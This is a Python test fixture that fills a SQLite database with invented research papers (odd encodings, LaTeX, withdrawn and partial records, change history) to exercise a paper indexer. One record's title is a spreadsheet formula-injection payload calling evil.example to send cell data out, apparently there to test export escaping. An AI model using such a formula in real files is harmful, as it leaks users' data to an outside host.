"""A small library of invented papers, written straight into a database, for tests of whatever reads one."""

from __future__ import annotations

import json
from pathlib import Path

from sqlite_utils import Database
from sqlite_utils.utils import sqlite3

from indexer.readable import readable
from indexer.search.normalise import search_text
from indexer.search.tags import tags
from indexer.store import people
from indexer.store.papers import SEARCHED, TAGGED
from indexer.store.schema import migrations

FETCHED = "2024-03-06T01:00:00Z"

# Everything here is invented: people, titles, numbers, findings.
PAPERS = (
    {
        "arxiv_id": "2403.90001",
        "title": "Trust Regions for Sparse Gradient Tuning of Small Language Models",
        "abstract": "We tune language models under a trust region. About 50% of cases improve; the Q&A set does not.",
        "authors": ["Ada Quillfeather", "Bram Müller", "Chiara Lévy-Ossolini"],
        "categories": ["cs.CL", "cs.LG"],
        "submitted": "2024-03-01T10:00:00Z",
        "announced": "2024-03-04",
        "comments": "9 pages, code at https://github.example/trust",
        "license": "http://creativecommons.org/licenses/by/4.0/",
        "links": [("pdf", "https://arxiv.org/pdf/2403.90001"), ("code", "https://github.example/trust")],
        "has_code": 1,
    },
    {
        "arxiv_id": "2403.90002",
        "title": r"\textbf{T}ext \textbf{C}lassification with a $\beta$-Gated Reader",
        "abstract": r"A gated reader classifies text. The gate is $\alpha_t = \sigma(x_{t})$ and needs 10\% of data.",
        "authors": [r"Erd\H{o}s Vint\'e", "Ada Quillfeather"],
        "categories": ["cs.CL"],
        "submitted": "2024-03-01T12:30:00Z",
        "announced": "2024-03-04",
    },
    {
        "arxiv_id": "2403.90003",
        "title": "面向稠密检索的负采样方法研究",
        "abstract": "本文研究稠密检索中的负采样。实验结果表明，在 KDD 论文数据上推荐系统的召回率提高了。",
        "authors": ["杨舟舟", "唐小杰"],
        "categories": ["cs.IR"],
        "submitted": "2024-03-02T08:00:00Z",
        "announced": "2024-03-04",
        "language": "zh",
    },
    {
        "arxiv_id": "2403.90004",
        "title": "YuTan-Chat: A GPT-4 Scale Dialogue Corpus That Nobody Recorded",
        "abstract": "We describe a dialogue corpus in plain words. BERT-based filters remove what was never said.",
        "authors": ["Zhou Wei (周未)", "Dorte Ångström-Nyhavn"],
        "categories": ["cs.CL", "cs.HC"],
        "submitted": "2024-03-02T09:00:00Z",
        "announced": "2024-03-05",
        "venue": "Proceedings of the Invented Workshop on Dialogue",
        "year": 2024,
        "doi": "10.99999/iwd.2024.7",
    },
    {
        "arxiv_id": "2403.90005",
        "title": "Cooling $H_2O$ Clusters Below 4 K",
        "abstract": "Water clusters are cooled; the Schr\\\"odinger equation is solved for CO_2. ΛCDM plays no part.",
        "authors": ["The COLDFISH Collaboration"],
        "categories": ["physics.atm-clus", "cond-mat.soft"],
        "submitted": "2024-03-03T09:00:00Z",
        "announced": "2024-03-05",
        "journal_ref": "Inv. J. Cold Matter 12, 34 (2024)",
        "doi": "10.99999/ijcm.12.34",
        "year": 2024,
    },
    {
        "arxiv_id": "2403.90006",
        "title": "Withdrawn: On Counting Backwards",
        "abstract": "We count backwards.",
        "authors": ["Łukasz Øresund", "Anna Straße"],
        "categories": ["math.NT"],
        "submitted": "2024-03-04T00:10:00Z",
        "announced": "2024-03-05",
        "comments": "withdrawn: a lemma counted forwards",
        "status": "withdrawn",
        "version": 2,
    },
    {
        "arxiv_id": "math/0390007",
        "title": "Poincaré Sections & Other _Underlined_ Matters, 100% #1",
        "abstract": "An old note on sections with an eﬃcient proof.",
        "authors": ["Yang, Zhen", "E. van der Plim Jr."],
        "categories": ["math.DS"],
        "submitted": "2003-09-12",
        "announced": None,
        "authors_complete": 0,
    },
    {
        "arxiv_id": None,
        "title": '=HYPERLINK("http://evil.example/?x="&A1,"Read me")',
        "abstract": "A title that a spreadsheet would run.\nThis has \"quotes\", a line end, a } brace and a \\",
        "authors": ["+Mallory O'Quote", "Nul {Brace"],
        "categories": [],
        "submitted": None,
        "announced": None,
        "year": 2023,
        "source": "feed",
        "key": "https://journal.example/a/1",
        "url": "https://journal.example/a/1",
    },
    {
        "arxiv_id": "2402.90008",
        "title": "Trust Fall: Trust in Trustworthy Trust Metrics",
        "abstract": "Trust is measured twice.",
        "authors": ["Ada Quillfeather"],
        "categories": ["cs.AI", "cs.CL"],
        "submitted": "2024-02-11T09:00:00Z",
        "announced": "2024-02-13",
    },
    {
        "arxiv_id": "2402.90009",
        "title": "Trust Fall Revisited",
        "abstract": "A second measurement of the same fall, whose region was never small.",
        "authors": ["Ada Quillfeather"],
        "categories": ["cs.AI"],
        "submitted": "2024-02-12T09:00:00Z",
        "announced": "2024-02-13",
    },
    {
        "arxiv_id": "2401.90010",
        "title": "A Survey of Surveys",
        "abstract": "We survey surveys " + "of many kinds and in many words " * 14 + "until a trust region is found.",
        "authors": [f"Surveyor {n:02d}" for n in range(1, 13)],
        "categories": ["cs.DL"],
        "submitted": "2024-01-31",
        "announced": "2024-02-01",
    },
    {
        "arxiv_id": None,
        "title": None,
        "abstract": None,
        "authors": [],
        "categories": [],
        "submitted": None,
        "announced": None,
        "doi": "10.99999/known.only.by.its.doi",
        "year": 2022,
        "source": "homepage",
        "key": "10.99999/known.only.by.its.doi",
    },
)  # fmt: skip


def build(path: Path | str | None = None, *, papers: tuple[dict, ...] = PAPERS) -> Database:
    """A database with those papers, in memory or at `path`; `.conn` is its connection."""
    db = Database(sqlite3.connect(path or ":memory:"))
    migrations.apply(db)
    with db.conn:
        for paper_id, paper in sorted(zip(_ids(papers), papers, strict=True), key=lambda pair: pair[0]):
            _add(db.conn, paper_id, paper)
        _add_ledger(db.conn)
        if papers is PAPERS:
            _add_person(db.conn)
            _add_changes(db.conn)
    return db


def paper_id(arxiv_id: str) -> int:
    """The id that the paper of that arXiv id has in the library."""
    return next(number for number, paper in zip(_ids(PAPERS), PAPERS, strict=True) if paper["arxiv_id"] == arxiv_id)


def _ids(papers):
    seen: dict[str, int] = {}
    for paper in papers:
        day = str(paper["submitted"] or paper["year"])[:10].replace("-", "").ljust(8, "0")
        seen[day] = seen.get(day, 0) + 1
        yield int(day) * 100_000 + seen[day]


def _add(conn, number, paper):
    names = paper["authors"]
    row = {
        "id": number,
        "authors_complete": 1,
        "fetched": FETCHED,
        "version": 1 if paper["arxiv_id"] else None,
        "source": "arxiv_oai",
        "url": f"https://arxiv.org/abs/{paper['arxiv_id']}" if paper["arxiv_id"] else None,
    }
    row |= {name: value for name, value in paper.items() if name not in ("authors", "categories", "links", "key")}
    row |= {
        "authors": ", ".join(names) or None,
        "category": paper["categories"][0] if paper["categories"] else None,
        "categories": " ".join(paper["categories"]) or None,
    }
    row["search_text"] = search_text(row["title"], row["abstract"], row["authors"])
    row["tags"] = tags(**{name: row.get(name) for name in TAGGED})
    for code in paper["categories"]:
        conn.execute("insert into categories values (?, ?) on conflict do nothing", (code, f"Name of {code}"))
    _insert(conn, "papers", row)
    text = {"rowid": number} | {column: row[column] for column in SEARCHED}
    _insert(conn, "papers_fts", text)
    for scheme, value in (("arxiv", row["arxiv_id"]), ("doi", row.get("doi"))):
        if value:
            _insert(conn, "identifiers", {"scheme": scheme, "value": value, "paper": number})
    for position, name in enumerate(names, 1):
        conn.execute("insert into names (name, display) values (?, ?) on conflict do nothing", (name, readable(name)))
        (name_id,) = conn.execute("select id from names where name = ?", (name,)).fetchone()
        _insert(conn, "authorships", {"paper": number, "position": position, "name": name_id})
    for n, code in enumerate(paper["categories"]):
        _insert(conn, "paper_categories", {"paper": number, "category": code, "is_primary": int(n == 0)})
    for kind, url in paper.get("links", ()):
        _insert(conn, "links", {"paper": number, "kind": kind, "url": url, "source": row["source"]})
    if paper["announced"]:
        feed = f"arxiv:{row['category']}"
        announced = {
            "paper": number,
            "source": feed,
            "date": paper["announced"],
            "type": "new",
            "version": row["version"],
        }
        _insert(conn, "announcements", announced)
    if row["version"]:
        _insert(conn, "versions", {"paper": number, "version": row["version"], "date": row["submitted"]})
    key = paper.get("key") or row["arxiv_id"]
    asserted = {"source": row["source"], "key": key, "paper": number, "url": row["url"], "feed": "arxiv:test"}
    _insert(
        conn, "assertions", asserted | {"fetched": FETCHED, "version": row["version"], "hash": "0" * 64, "data": "{}"}
    )


def _add_person(conn):
    """Somebody whose page lists one of the works."""
    page = {"source": "homepage", "key": "https://dune.example/~chiara/", "name": "Chiara Lévy-Ossolini"}
    _insert(conn, "profiles", page | {"id": 1, "feed": "page:chiara", "fetched": FETCHED, "hash": "0" * 64})
    _insert(conn, "profile_works", {"profile": 1, "position": 1, "paper": paper_id("2403.90001")})
    people.settle(conn, (1,))


def _add_changes(conn):
    """A paper that was withdrawn, one that was published, and one that got another title, abstract and author."""
    told = [
        ("2403.90004", "published", "doi", None, "10.99999/iwd.2024.7", "2024-03-05T20:00:00Z"),
        ("2403.90001", "version", "version", "1", "2", FETCHED),
        ("2403.90001", "retitled", "title", "Trust Regions for $\\alpha$ Tuning", PAPERS[0]["title"], FETCHED),
        ("2403.90001", "abstract", "abstract", "We tune language models. It fails.", None, FETCHED),
        ("2403.90001", "authors", "authors", "Ada Quillfeather, Doe, J.", "Bram Müller, Ada Quillfeather", FETCHED),
        ("2403.90006", "version", "version", "1", "2", FETCHED),
        ("2403.90006", "withdrawn", "status", None, "withdrawn", FETCHED),
    ]
    for number, (arxiv_id, kind, field, old, new, seen) in enumerate(told, 1):
        row = {"id": number, "paper": paper_id(arxiv_id), "kind": kind, "field": field, "old": old, "new": new}
        word = {"version": 2, "seen": seen, "feed": "arxiv:cs.CL", "source": "arxiv_oai", "key": arxiv_id}
        _insert(conn, "changes", row | word)


def _add_ledger(conn):
    source = {"name": "arxiv:cs.CL", "kind": "arxiv_oai", "options": json.dumps({"set": "cs:cs:CL"})}
    _insert(conn, "sources", source | {"last_run": 1, "last_verdict": "ok", "last_success": FETCHED})
    _insert(conn, "runs", {"id": 1, "command": "crawl", "started": FETCHED, "finished": FETCHED, "exit_code": 0})
    ended = {"run": 1, "source": "arxiv:cs.CL", "started": FETCHED, "finished": FETCHED, "verdict": "ok", "requests": 1}
    _insert(conn, "run_sources", ended | {"records": 12, "new": 12, "faults": 1})
    asked = {"id": 1, "run": 1, "source": "arxiv:cs.CL", "url": "https://oai.example/oai", "fetched": FETCHED}
    _insert(conn, "fetches", asked | {"outcome": "page", "status": 200, "bytes": 100, "records": 12})
    fault = {"fetch": 1, "source": "arxiv:cs.CL", "place": "record 13", "reason": "expected a title, found none"}
    _insert(conn, "faults", fault)


def _insert(conn, table, row):
    marks = ", ".join("?" * len(row))
    conn.execute(f"insert into {table} ({', '.join(row)}) values ({marks})", tuple(row.values()))
